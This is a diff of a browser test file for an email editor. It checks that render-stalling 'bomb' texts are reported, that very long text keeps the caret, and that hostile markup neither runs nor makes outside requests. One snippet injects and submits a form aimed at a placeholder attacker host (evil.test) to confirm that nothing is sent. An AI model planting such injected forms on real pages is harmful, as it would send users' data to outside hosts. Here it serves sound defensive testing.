@@ -1,19 +1,19 @@
 import type { Page } from 'playwright-core';
 import { beforeAll, describe, expect, test } from 'vitest';
 import { markup } from '../design/hostile-markup.ts';
-import { seriousFindings } from '../harness/app.ts';
-import { block, canvas, editorOf, mail, row, three } from '../harness/app-editor.ts';
+import { findingsAtNight } from '../harness/app.ts';
+import { block, canvas, editorOf, mail, row, threeBlocks } from '../harness/app-editor.ts';
 import { emptyStore } from '../harness/app-store.ts';
 import { parseBombs, renderBombs, smallBombs, valueBombs } from '../harness/bombs.ts';
-import { patience } from '../harness/rounds.ts';
+import { waitLimit } from '../harness/retry-rounds.ts';
 import { sharedApp } from '../harness/shared-app.ts';
 import { sampled } from '../harness/size.ts';
 
 const { browser, origin } = await sharedApp();
 
-let { made, open } = {} as ReturnType<typeof editorOf>;
+let { goTo, made, open } = {} as ReturnType<typeof editorOf>;
 beforeAll(async () => {
-  ({ made, open } = editorOf(browser, origin, await emptyStore(browser, origin)));
+  ({ goTo, made, open } = editorOf(browser, origin, await emptyStore(browser, origin)));
 });
 
 /** Of the browser, as far as it is used here. */
@@ -59,30 +59,30 @@ const put = (page: Page, name: string, text: string) =>
 /** Until what was put there has been drawn. */
 const FRAME = 'new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))';
 
-describe('a text that would keep the browser busy', () => {
+describe('a text that takes too long to render', () => {
   const texts = [...parseBombs, ...renderBombs, ...smallBombs].map(
     ([name, bomb]) => ['Text', name, bomb] as const,
   );
-  const conditions = valueBombs.map(([name, bomb]) => ['Only if', name, bomb] as const);
+  const conditions = valueBombs.map(([name, bomb]) => ['Show only if', name, bomb] as const);
 
-  test('the page goes on, tells it at its block, and the next change is drawn', async () => {
-    const page = await open((await made(three)).id);
+  test('reports it at its block and renders the next change', async () => {
+    const page = await goTo((await made(threeBlocks)).id);
     await block(page, /Your tea is here/).click();
     const alert = page.getByRole('alert');
     /** Where the page itself was kept busy. */
     const late: string[] = [];
-    for (const [i, [name, title, bomb]] of sampled([...texts, ...conditions], 10, 3).entries()) {
+    for (const [i, [name, title, bomb]] of sampled([...texts, ...conditions], 20, 3).entries()) {
       const before = await drawn(page);
       const begun = performance.now();
       await put(page, name, bomb);
       await field(page, name).waitFor();
       await page.evaluate(FRAME);
       const answered = performance.now() - begun;
-      if (answered > patience(2000)) late.push(`${title}: ${Math.round(answered)} ms`);
+      if (answered > waitLimit(2000)) late.push(`${title}: ${Math.round(answered)} ms`);
       // Refused, ended, or not that bad after all.
       await expect
         .poll(async () => (await alert.count()) > 0 || (await drawn(page)) !== before, {
-          timeout: patience(4000),
+          timeout: waitLimit(4000),
           message: title,
         })
         .toBe(true);
@@ -92,17 +92,16 @@ describe('a text that would keep the browser busy', () => {
       console.log(
         `${title}: answers after ${Math.round(answered)} ms, ${(await alert.count()) > 0 ? 'refused' : 'drawn'} after ${Math.round(told)} ms`,
       );
-      if (name === 'Only if') await put(page, name, '');
+      if (name === 'Show only if') await put(page, name, '');
       await put(page, 'Text', `<p>Fine again ${i}</p>`);
       await mail(page).getByText(`Fine again ${i}`, { exact: true }).waitFor();
       await alert.waitFor({ state: 'detached' });
     }
     expect(late).toEqual([]);
-    await page.context().close();
   }, 600_000);
 });
 
-describe('a text that is too long for a field of the browser', () => {
+describe('a text too long for a native input', () => {
   const text = (page: Page) => field(page, 'Text');
   const isInEditor = (page: Page) =>
     text(page).evaluate((box) => (box as unknown as Box).matches('[contenteditable=true]:focus'));
@@ -117,8 +116,9 @@ describe('a text that is too long for a field of the browser', () => {
     });
   };
 
-  test('whoever writes stays in it where it becomes long, while its editor still loads, and short again', async () => {
-    const page = await open((await made(three)).id);
+  test('keeps the caret while the field switches to the long-text editor and back', async () => {
+    // A page of its own, in which that editor has not been loaded.
+    const page = await open((await made(threeBlocks)).id);
     await row(page, /Your tea is here/).click();
     const arrives = Promise.withResolvers<void>();
     await page.route('**/assets/long-text-*.js', async (route) => {
@@ -132,7 +132,7 @@ describe('a text that is too long for a field of the browser', () => {
     arrives.resolve();
     await text(page).waitFor();
     expect(await isInEditor(page)).toBe(true);
-    expect(await seriousFindings(page)).toEqual([]);
+    expect(await findingsAtNight(page)).toEqual([]);
     await page.keyboard.type('d');
     await page.keyboard.press('Backspace');
     await page.keyboard.type('{{ here');
@@ -146,7 +146,7 @@ describe('a text that is too long for a field of the browser', () => {
       return read();
     };
     const value = () => text(page).evaluate((box) => (box as unknown as Box).value);
-    await expect.poll(() => after('Control+z', value)).toBe(three.blocks[1]?.html);
+    await expect.poll(() => after('Control+z', value)).toBe(threeBlocks.blocks[1]?.html);
     await expect
       .poll(() => after('Control+Shift+z', () => written(page)))
       .toMatch(/^a{20001}bc\{\{ here \}\}$/);
@@ -162,9 +162,9 @@ describe('a text that is too long for a field of the browser', () => {
   });
 });
 
-describe('markup that would do something', () => {
-  test('runs and sends nothing in the mail, nor while it is written in place, nor pasted', async () => {
-    const page = await open((await made(three)).id);
+describe('active markup', () => {
+  test('neither runs nor loads anything in the email, in place or pasted', async () => {
+    const page = await goTo((await made(threeBlocks)).id);
     const done: string[] = [];
     page.on('dialog', (dialog) => {
       done.push(dialog.message());
@@ -175,7 +175,7 @@ describe('markup that would do something', () => {
       if (!request.url().startsWith(origin) && request.resourceType() !== 'image') done.push(request.url());
     });
     await row(page, /Your tea is here/).click();
-    for (const [i, each] of sampled(markup, 12, 5).entries()) {
+    for (const [i, each] of sampled(markup, 24, 5).entries()) {
       await put(page, 'Text', each);
       // Written in place where it can be; else its field is opened.
       await canvas(page).focus();
@@ -183,7 +183,7 @@ describe('markup that would do something', () => {
       await page.keyboard.press('Escape');
       await page.evaluate(
         `{
-          const mail = document.querySelector('iframe[title=Mail]').contentDocument;
+          const mail = document.querySelector('iframe[title=Email]').contentDocument;
           for (const form of mail.forms) try { form.requestSubmit(); } catch {}
           for (const link of mail.querySelectorAll('a, button, input')) link.click();
           for (const one of mail.querySelectorAll('*')) for (const { name } of one.attributes)
@@ -200,7 +200,7 @@ describe('markup that would do something', () => {
         `{
           const data = new DataTransfer();
           data.setData('text/html', ${JSON.stringify(each).replaceAll('</', '<\\/')});
-          document.querySelector('iframe[title=Mail]').contentDocument.querySelector('[role=textbox]')
+          document.querySelector('iframe[title=Email]').contentDocument.querySelector('[role=textbox]')
             .dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
         }`,
       );
@@ -211,7 +211,7 @@ describe('markup that would do something', () => {
     // What the page itself would put there does not run either, and a form is not sent.
     await page.evaluate(
       `{
-        const mail = document.querySelector('iframe[title=Mail]').contentDocument;
+        const mail = document.querySelector('iframe[title=Email]').contentDocument;
         mail.body.insertAdjacentHTML('beforeend', '<form action="https://evil.test/"><input name=a></form>');
         mail.body.lastElementChild.submit();
       }`,
@@ -219,6 +219,5 @@ describe('markup that would do something', () => {
     await put(page, 'Text', '<p>At the end</p>');
     await mail(page).getByText('At the end').waitFor();
     expect(done).toEqual([]);
-    await page.context().close();
   }, 600_000);
 });
